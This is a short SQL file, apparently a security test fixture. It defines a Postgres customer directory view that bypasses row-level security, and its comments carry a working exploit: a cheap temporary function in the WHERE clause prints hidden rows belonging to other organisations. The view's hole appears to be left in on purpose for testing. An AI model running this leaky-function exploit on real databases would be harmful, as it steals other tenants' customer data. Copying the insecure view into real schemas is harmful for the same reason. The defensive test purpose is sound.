-- The view reads with its owner's rights, past the policies, and is no barrier; a cheap function in the
-- WHERE clause is run on the hidden rows before the filter and prints them.
-- about: customers, customer_directory
-- as: hf_deskline_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","role":"authenticated"}';
-- exploit: CREATE FUNCTION pg_temp.spy(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001
-- exploit:   AS $f$ BEGIN RAISE NOTICE 'seen %', $1; RETURN true; END $f$;
-- exploit: SELECT full_name FROM public.customer_directory WHERE pg_temp.spy(full_name);
-- shows: seen Road-secret customer
-- A directory of customers for type-ahead: the view filters by itself, which is faster than the policy.
CREATE VIEW public.customer_directory AS
  SELECT c.id, c.org_id, c.full_name, c.email FROM public.customers c
  WHERE c.org_id IN (SELECT m.org_id FROM public.members m WHERE m.user_id = auth.uid());
GRANT SELECT ON public.customer_directory TO hf_deskline_app;
